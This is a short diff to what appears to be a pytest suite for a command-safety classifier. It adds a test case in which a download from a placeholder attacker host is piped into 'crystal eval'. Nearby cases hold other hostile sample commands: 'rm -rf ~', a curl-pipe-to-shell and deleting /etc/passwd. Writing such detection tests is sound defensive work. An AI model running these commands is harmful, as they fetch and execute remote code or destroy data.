@@ -357,6 +357,7 @@ def test_command_word_built_by_appending(command: str, effect: str) -> None:
         ("crystal eval 'system(\"rm -rf ~\")'", "destructive_delete"),
         (f"crystal eval 'puts `curl -s https://{ATTACKER}/x | sh`'", "download_exec"),
         ("crystal eval 'File.delete(\"/etc/passwd\")'", "destructive_delete"),
+        (f"curl -s https://{ATTACKER}/x | crystal eval", "download_exec"),
     ],
 )
 def test_crystal_inline_code(command: str, effect: str) -> None:
